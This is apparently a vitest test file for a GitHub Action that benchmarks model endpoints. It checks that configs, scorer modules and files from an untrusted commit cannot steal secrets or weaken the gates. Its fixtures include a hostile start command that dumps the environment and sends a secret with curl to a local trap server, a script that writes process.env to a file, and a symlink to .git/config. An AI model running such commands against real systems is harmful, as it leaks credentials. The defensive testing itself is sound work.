/** Whose config decides, and who gets the key: the bundled action beside trees of strangers. */
import { existsSync } from 'node:fs';
import { mkdir, readFile, symlink, writeFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { readZipEntry } from '../../src/github/zip.ts';
import { parseRun } from '../../src/history/run-file.ts';
import type { Run } from '../../src/model/run-file.ts';
import { configure, openRecorded } from '../story/recorded.ts';
import { type Step, Story } from '../story/story.ts';
import { quickConfig, withEndpoint } from './endpoint.ts';

const CONFIG = '.github/insight-agent.yml';
const KEY = 'sk-staging-secret-0123456789';
const OTHER = 'gateway-secret-9876543210';
const cli = fileURLToPath(new URL('../../dist/cli.js', import.meta.url));
const shortConfig = quickConfig.replace('requests: 120', 'requests: 20').replace('concurrency: 16', 'sets: []');

/** A server of the stranger's: what it was sent. */
async function withTrap<T>(work: (url: string, heard: string[]) => Promise<T>): Promise<T> {
  const heard: string[] = [];
  const server = createServer((request, response) => {
    heard.push(JSON.stringify([request.url, request.headers]));
    response.writeHead(500).end();
  }).listen(0, '127.0.0.1');
  await new Promise((resolve) => server.once('listening', resolve));
  try {
    return await work(`http://127.0.0.1:${(server.address() as AddressInfo).port}/v1`, heard);
  } finally {
    server.closeAllConnections();
    server.close();
  }
}

/** A repository whose base branch has `files`; in the working folder lies what a stranger's commit has, `tree`. */
async function openForeign(
  files: Record<string, string>,
  tree: Record<string, string>,
): Promise<{ story: Story; foreign: string }> {
  const story = await Story.open();
  for (const [path, text] of Object.entries(files)) story.github.state.addFile(story.tip, path, text);
  const foreign = story.github.state.addCommit({ message: "a stranger's", parents: [story.tip] });
  for (const [path, text] of Object.entries(tree)) await put(story, path, text);
  await story.checkOut(foreign);
  return { story, foreign };
}

async function put(story: Story, path: string, text: string): Promise<void> {
  await mkdir(dirname(join(story.workspace, path)), { recursive: true });
  await writeFile(join(story.workspace, path), text);
}

async function runFileOf(story: Story, step: Step): Promise<Run> {
  const artifact = story.github.state.artifacts.find(({ runId }) => runId === step.run.id);
  const entry = await readZipEntry(artifact?.bytes ?? Buffer.alloc(0), 'run.jsonl', { maxEntries: 20, maxBytes: 1e8 });
  expect(entry.ok, step.log).toBe(true);
  return parseRun(entry.ok ? entry.bytes.toString('utf8') : '', 'run.jsonl');
}

const targetAt = (url: string, rest = ''): string => `target:\n  url: ${url}\n  model: test-model\n${rest}`;

/** A job that the end of another starts, with all that the repository has, and that gates. */
async function follow(story: Story, options: Partial<Parameters<Story['follow']>[1]> = {}): Promise<Step> {
  const { state } = story.github;
  const run = state.addRun({ headSha: story.tip, headBranch: 'main', event: 'pull_request', createdMs: Date.now() });
  const ended = { run } as Step;
  return story.follow(ended, {
    inputs: { mode: 'gate' },
    secrets: { 'api-key': KEY },
    env: { GATEWAY: OTHER },
    ...options,
  });
}

describe('beside a stranger’s tree', () => {
  it('on workflow_run the key goes where the base commit says, and its gates judge', async () => {
    await withTrap(async (trap, heard) => {
      await withEndpoint({ runSeed: 1, apiKey: KEY }, async ({ url }) => {
        const honest = `${shortConfig}  error_ratio: { limit: 50% }\n${targetAt(url)}  headers: { x-team: { env: GATEWAY } }\n`;
        const hostile = `${shortConfig}  accuracy: off\n  invalid: warn\n${targetAt(trap)}  headers: { x-team: { env: GATEWAY } }
  start: { command: 'env > stolen.txt; curl -s ${trap}/$GATEWAY; sleep 60', ready: ${trap} }
report: { comment: never, show-url: true, narrator: { url: ${trap}, model: m, api-key-env: GATEWAY } }
`;
        const { story: opened, foreign } = await openForeign({ [CONFIG]: honest }, { [CONFIG]: hostile });
        await using story = opened;
        const step = await follow(story);
        expect(heard).toEqual([]);
        expect(existsSync(join(story.workspace, 'stolen.txt'))).toBe(false);
        expect(step.exitCode, step.log).toBe(0);
        const run = await runFileOf(story, step);
        expect(run.header.gates).toContainEqual(expect.stringMatching(/^error_ratio .*limit=0\.5/));
        expect(run.header.gates).toContainEqual(expect.stringMatching(/^accuracy /));
        // What was measured is the stranger's commit: as that of the base branch it would become its baseline.
        expect(run.header.commit).toBe(foreign);
        const told = `The measured code comes from outside this repository (workflow_run measures the commit ${foreign.slice(0, 12)}`;
        expect(step.log).toContain(told);
        expect(step.summary).toMatch(/\[!WARNING\]\n> - The measured code comes from outside this repository/);
        // References are broken by a sign that cannot be seen.
        const summary = step.summary.replaceAll('\u200b', '');
        expect(summary).toContain(`the config is that of ${story.tip.slice(0, 12)} on main`);
        for (const text of [step.log, step.summary, ...Object.values(step.outputs), JSON.stringify(run)])
          for (const secret of [KEY, OTHER, new URL(url).host]) expect(text).not.toContain(secret);
      });
    });
  });

  it('on a job that somebody starts for a reviewed commit, too; it records nothing', async () => {
    await withTrap(async (trap, heard) => {
      await withEndpoint({ runSeed: 1, apiKey: KEY }, async ({ url }) => {
        const { story: opened, foreign } = await openForeign(
          { [CONFIG]: `${shortConfig}${targetAt(url)}` },
          { [CONFIG]: `${shortConfig}${targetAt(trap)}` },
        );
        await using story = opened;
        const step = await story.dispatch({ inputs: {}, secrets: { 'api-key': KEY }, checkedOut: foreign });
        expect(heard).toEqual([]);
        expect(step.exitCode, step.log).toBe(0);
        expect(step.log).toMatch(/Mode gate: workflow_dispatch measures the commit/);
        expect((await runFileOf(story, step)).header.commit).toBe(foreign);

        const recorded = await story.dispatch({
          inputs: { mode: 'record' },
          secrets: { 'api-key': KEY },
          checkedOut: foreign,
        });
        expect(recorded.exitCode).toBe(2);
        expect(recorded.log).toMatch(/Mode record is refused here: .* would be what others are judged by/);
        expect(story.github.state.artifacts.filter(({ runId }) => runId === recorded.run.id)).toEqual([]);
      });
    });
  });

  it.each([
    ['that is to gate', { mode: 'gate' }],
    ['beside a config', {}],
  ])(
    'a job %s says no commit where git names none, and is no baseline',
    async (_, mode) => {
      const { story: opened, pushes } = await openRecorded();
      await using story = opened;
      await withEndpoint({ runSeed: 104 }, async ({ url }) => {
        const inputs = { url, model: 'test-model' };
        const step = await story.dispatch({ inputs: { ...inputs, ...mode }, checkedOut: null });
        expect(step.exitCode, step.log).toBe(0);
        const pull = await story.openPullRequest({ inputs });
        const { baseline } = JSON.parse(pull.outputs.result ?? '{}');
        const compared = baseline.runs.map(({ runId }: { runId: number }) => runId);
        expect(compared.toSorted()).toEqual(pushes.map(({ runId }) => runId).toSorted());
        expect(pull.summary).toContain('the run file is of another commit than its run');
        expect((await runFileOf(story, step)).header.commit).toBeUndefined();
      });
    },
    180_000,
  );

  it('a server that the base config starts gets nothing secret', async () => {
    const dump = "require('node:fs').writeFileSync('seen.json', JSON.stringify(process.env))";
    const port = 20_000 + (process.pid % 20_000);
    const config = `${shortConfig}target:
  url: http://127.0.0.1:${port}/v1
  model: insight-simulator
  headers: { x-team: { env: GATEWAY } }
  start: { command: '"${process.execPath}" serve.cjs & "${process.execPath}" ${cli} simulate --port ${port} & wait', timeout: 30s }
`;
    const { story: opened, foreign } = await openForeign({ [CONFIG]: config }, { 'serve.cjs': dump });
    await using story = opened;
    const env = { GATEWAY: OTHER, HF_TOKEN: 'hf_0123456789', VISIBLE: 'yes' };
    const step = await story.dispatch({ inputs: {}, secrets: { 'api-key': KEY }, env, checkedOut: foreign });
    expect(step.exitCode, step.log).toBe(0);
    const seen = await readFile(join(story.workspace, 'seen.json'), 'utf8');
    expect(JSON.parse(seen)).toMatchObject({ VISIBLE: 'yes' });
    for (const secret of [KEY, OTHER, 'hf_0123456789', 'GITHUB_OUTPUT', 'ACTIONS_RUNTIME_TOKEN', 'INPUT_'])
      expect(seen).not.toContain(secret);
    expect(step.log).toContain('Started servers do not get GATEWAY, HF_TOKEN');

    const refused = await follow(story);
    expect(refused.exitCode).toBe(2);
    expect(refused.log).toMatch(/`target.start` is refused: it would run code beside the secrets/);
  });

  it('prompts are read from it and told, and what decides is not', async () => {
    await withEndpoint({ runSeed: 1 }, async ({ url }) => {
      const config = `${shortConfig.replace('workload:', 'workload:\n  prompts: data/prompts.jsonl')}${targetAt(url)}baseline: { calibration: calibration.json }\n`;
      const prompts = (word: string): string =>
        Array.from({ length: 4 }, (_, at) => JSON.stringify({ prompt: `${word} ${at}?` })).join('\n');
      const { story: opened } = await openForeign(
        { [CONFIG]: config, 'data/prompts.jsonl': prompts('ours') },
        {
          'data/prompts.jsonl': `${prompts('theirs')}\n${prompts('more')}`,
          'calibration.json': '{"nothing": "that fits"}',
        },
      );
      await using story = opened;
      const step = await follow(story, { env: {} });
      expect(step.exitCode, step.log).toBe(0);
      expect((await runFileOf(story, step)).header.workload.prompts).toMatchObject({
        source: 'data/prompts.jsonl',
        count: 8,
      });
      expect(step.summary).toContain('Read from the working folder: data/prompts.jsonl.');
      expect(step.summary).toContain('The calibration calibration.json is not used (there is no such file)');
    });
  });

  it('scores nothing by code of it, on a job that somebody started either', async () => {
    const items = JSON.stringify({ prompt: 'Hm?', expected: 'x', scorer: { type: 'module', path: 'evals/own.mjs' } });
    const config = `${quickConfig.replace('quality: {', 'quality: { sets: [ { path: evals/own.jsonl } ],')}${targetAt('http://127.0.0.1:1/v1')}`;
    const { story: opened, foreign } = await openForeign(
      { [CONFIG]: config },
      { 'evals/own.jsonl': items, 'evals/own.mjs': "import('node:fs').then((fs) => fs.writeFileSync('ran', ''));" },
    );
    await using story = opened;
    const step = await story.dispatch({ inputs: {}, checkedOut: foreign });
    expect(step.exitCode).toBe(2);
    expect(step.log).toMatch(
      /The scorer module evals\/own\.mjs is not run here: workflow_dispatch measures the commit/,
    );
    expect(existsSync(join(story.workspace, 'ran'))).toBe(false);
  });

  it('accepts no regression by a file of it', async () => {
    const { story: opened } = await openRecorded();
    await using story = opened;
    const foreign = story.github.state.addCommit({ message: "a stranger's", parents: [story.tip] });
    await put(
      story,
      '.github/insight-agent-accepted.yml',
      '- { gate: accuracy, reason: because, by: stranger, until: 2099-12-31 }\n',
    );
    const changes = { answers: { rates: { default: 0.3 } } };
    const [theirs, ours] = await withEndpoint({ runSeed: 3, changes }, async ({ url }) => {
      const inputs = { url, model: 'test-model', mode: 'gate' };
      return [await story.dispatch({ inputs, checkedOut: foreign }), await story.dispatch({ inputs })];
    });
    expect(theirs?.outputs.verdict, theirs?.log).toBe('fail');
    // The same file in our own tree does accept it.
    expect(ours?.outputs.verdict, ours?.log).not.toBe('fail');
  }, 180_000);

  it('a link in the place of the prompts leads nowhere', async () => {
    await withEndpoint({ runSeed: 1 }, async ({ url }) => {
      const config = `${shortConfig.replace('workload:', 'workload:\n  prompts: prompts.jsonl')}${targetAt(url)}`;
      const { story: opened } = await openForeign({ [CONFIG]: config }, {});
      await using story = opened;
      await symlink(join(story.workspace, '.git', 'config'), join(story.workspace, 'prompts.jsonl'));
      const step = await follow(story, { env: {} });
      expect(step.exitCode).toBe(2);
      expect(step.log).toMatch(/prompts\.jsonl is not read: it is, or is reached by, a link/);
    });
  });

  it('a config that the base commit does not have is told, wherever the tree has one', async () => {
    await withTrap(async (trap, heard) => {
      const { story: opened } = await openForeign({}, { 'mine.yml': targetAt(trap) });
      await using story = opened;
      const step = await follow(story, { inputs: { mode: 'gate', config: 'mine.yml' }, env: {} });
      expect(step.exitCode).toBe(2);
      expect(step.log).toMatch(
        /mine\.yml is not in the repository at the commit [0-9a-f]{12}, where this event reads it/,
      );
      expect(heard).toEqual([]);
    });
  });

  it('an artifact that was unpacked over our own tree changes nothing either', async () => {
    await withTrap(async (trap, heard) => {
      await withEndpoint({ runSeed: 1, apiKey: KEY }, async ({ url }) => {
        const files = { [CONFIG]: `${shortConfig}${targetAt(url)}` };
        const { story: opened } = await openForeign(files, { [CONFIG]: `${shortConfig}${targetAt(trap)}` });
        await using story = opened;
        await story.checkOut(story.tip);
        const step = await follow(story);
        expect(step.exitCode, step.log).toBe(0);
        expect(heard).toEqual([]);
        expect(step.summary).toContain('A stranger’s files may lie in the working folder');
      });
    });
  });
});

describe('a pull request that changes its config', () => {
  const looser = quickConfig.replace('max-increase: 400%, min-change: 50ms', 'max-increase: 4000%, min-change: 50ms');

  it('has each change at the top of its comment, once', async () => {
    const { story: opened } = await openRecorded(`${looser}  accuracy: off\nbudget: { minutes: 5 }\n`);
    await using story = opened;
    const step = await withEndpoint({ runSeed: 7 }, ({ url }) =>
      story.openPullRequest({ inputs: { url, model: 'test-model' } }),
    );
    expect(step.exitCode, step.log).toBe(0);
    const [comment = ''] = story.commentsOf(step.number);
    expect(comment).toMatch(
      /\[!WARNING\]\n> - This pull request changes the config that it is judged by, against main \([0-9a-f\u200b]+\): /,
    );
    for (const change of [
      'gates.ttft_p50.max-increase 400% → 4000%',
      'gates.accuracy switched off',
      'budget.minutes 10 → 5',
    ])
      expect(comment.replaceAll('\\', '')).toContain(change);
    expect(comment).not.toContain('is judged by other gates than the newest stored run');
  });

  it('has nothing of it where only words of it change', async () => {
    const { story: opened } = await openRecorded(`# a word\n${quickConfig}`);
    await using story = opened;
    const step = await withEndpoint({ runSeed: 8 }, ({ url }) =>
      story.openPullRequest({ inputs: { url, model: 'test-model' } }),
    );
    expect(step.exitCode, step.log).toBe(0);
    expect(story.commentsOf(step.number)[0]).not.toContain('the config that it is judged by');
  });

  it('is told what holds where it removes the file, and nothing where the file is only not checked out', async () => {
    await using story = await Story.open();
    story.github.state.addFile(story.tip, CONFIG, shortConfig);
    await withEndpoint({ runSeed: 8 }, async ({ url }) => {
      const inputs = { url, model: 'test-model' };
      const step = await story.openPullRequest({ inputs });
      expect(story.commentsOf(step.number)[0]).not.toContain('the config that it is judged by');
      story.github.state.addFile(step.run.headSha, CONFIG, null);
      await step.rerun({ inputs });
      const [comment = ''] = story.commentsOf(step.number);
      expect(comment).toContain('This pull request removes the config that it is judged by');
      expect(comment).toContain('workload.max-output-tokens 8 → 128');
    });
  });

  it('is judged where the earlier config was none, which is said once', async () => {
    const { story: opened } = await openRecorded();
    await using story = opened;
    story.github.state.addFile(story.tip, CONFIG, 'gates: [');
    const step = await withEndpoint({ runSeed: 9 }, ({ url }) =>
      story.openPullRequest({ inputs: { url, model: 'test-model' } }),
    );
    expect(step.exitCode, step.log).toBe(0);
    const [comment = ''] = story.commentsOf(step.number);
    expect(comment.match(/cannot be used, so what this pull request changes in it is not known/g)).toHaveLength(1);
  });

  it('is not driven where the token may not read the earlier one', async () => {
    await withTrap(async (trap, heard) => {
      const { story: opened } = await openRecorded();
      await using story = opened;
      const step = await story.openPullRequest({
        inputs: { url: trap, model: 'test-model' },
        permissions: { actions: 'read', 'pull-requests': 'write' },
      });
      expect(step.exitCode).toBe(2);
      expect(step.log).toMatch(/does not allow the workflow token/);
      expect(step.log).toContain('contents: read');
      expect(heard).toEqual([]);
    });
  });
});

describe('a draft', () => {
  const skipping = `${shortConfig}pull-request: { drafts: skip }\n`;

  it('is not driven where the config says so, and is once it is ready, although the payload is as old as the run', async () => {
    await using story = await Story.open();
    await configure(story, skipping);
    story.github.state.addFile(story.tip, CONFIG, skipping);
    await withTrap(async (trap, heard) => {
      const step = await story.openPullRequest({ inputs: { url: trap, model: 'test-model' }, draft: true });
      expect(step.exitCode, step.log).toBe(0);
      expect(step.outputs).toMatchObject({ verdict: 'no-baseline', 'comment-status': '' });
      expect(step.summary).toContain('NOT GATED: draft');
      expect(step.annotations).toContainEqual(
        expect.objectContaining({ level: 'notice', title: 'InsightAgent: NOT GATED: draft' }),
      );
      expect(heard).toEqual([]);
      expect(story.commentsOf(step.number)).toEqual([]);

      story.github.state.addPullRequest(step.number, { draft: false });
      const ready = await withEndpoint({ runSeed: 1 }, ({ url }) =>
        step.rerun({ inputs: { url, model: 'test-model' } }),
      );
      expect(ready.summary).not.toContain('draft');
      expect(story.commentsOf(step.number)).toHaveLength(1);
    });
  });

  it('is gated like any other where the config says nothing', async () => {
    await using story = await Story.open();
    await configure(story, shortConfig);
    const step = await withEndpoint({ runSeed: 1 }, ({ url }) =>
      story.openPullRequest({ inputs: { url, model: 'test-model' }, draft: true }),
    );
    expect(step.outputs['comment-status'], step.log).toBe('created');
  });
});

describe('without the secrets of the repository', () => {
  const inputs = { model: 'test-model' };
  const secrets = { url: 'http://127.0.0.1:1/v1', 'api-key': KEY };

  it('a fork’s own run says what happens next, and fails nobody, even where a baseline is required', async () => {
    await using story = await Story.open();
    await configure(story, `${shortConfig}baseline: { required: true }\n`);
    const step = await story.openPullRequest({ inputs, secrets, from: 'fork' });
    expect(step.exitCode, step.log).toBe(0);
    expect(step.outputs).toMatchObject({ verdict: 'no-baseline', 'comment-status': 'skipped-fork' });
    expect(step.summary).toMatch(/NOT GATED: no secrets here/);
    expect(step.summary).toMatch(
      /a maintainer who has reviewed the commit [0-9a-f]{12} starts the workflow that measures it/,
    );
    expect(step.summary).toContain('docs/forks.md');
    expect(step.summary).toContain('green because nothing was measured');
    expect(step.summary).not.toMatch(/https?:/);
  });

  it('Dependabot’s run says what it lacks, and a maintainer’s re-run of it lacks the same', async () => {
    await using story = await Story.open();
    await configure(story, shortConfig);
    const step = await story.openPullRequest({ inputs, secrets, from: 'dependabot' });
    for (const each of [step, await step.rerun({ inputs, secrets })]) {
      expect(each.exitCode, each.log).toBe(0);
      expect(each.outputs).toMatchObject({ verdict: 'no-baseline', 'comment-status': 'skipped-permission' });
      expect(each.summary).toContain('get the secrets for Dependabot alone');
      expect(each.summary).toContain('running this job again changes nothing');
    }
  });

  it('a push that Dependabot made is not recorded, and not failed', async () => {
    await using story = await Story.open();
    await configure(story, shortConfig);
    const step = await story.push({
      inputs: { ...inputs, url: '', 'api-key': '' },
      env: { GITHUB_ACTOR: 'dependabot[bot]' },
    });
    expect(step.exitCode, step.log).toBe(0);
    expect(step.summary).toContain('NOT MEASURED: no secrets here');
  });

  it('a nightly run whose file Dependabot touched last has them: a key that is refused there is a mistake', async () => {
    await using story = await Story.open();
    await configure(story, shortConfig);
    const step = await withEndpoint({ runSeed: 1, apiKey: KEY }, ({ url }) =>
      story.schedule({ inputs: { ...inputs, url, 'api-key': 'expired' }, env: { GITHUB_ACTOR: 'dependabot[bot]' } }),
    );
    expect(step.exitCode, step.log).toBe(3);
    expect(step.summary).toContain('The endpoint refused');
  });

  it('a maintainer’s own run on Dependabot’s pull request has them: that they are empty is a mistake', async () => {
    await using story = await Story.open();
    await configure(story, shortConfig);
    const step = await story.openPullRequest({
      inputs: { ...inputs, url: '', 'api-key': '' },
      payload: 'pull-request-dependabot',
    });
    expect(step.exitCode).toBe(2);
    expect(step.log).toMatch(/target\.url/);
  });
});
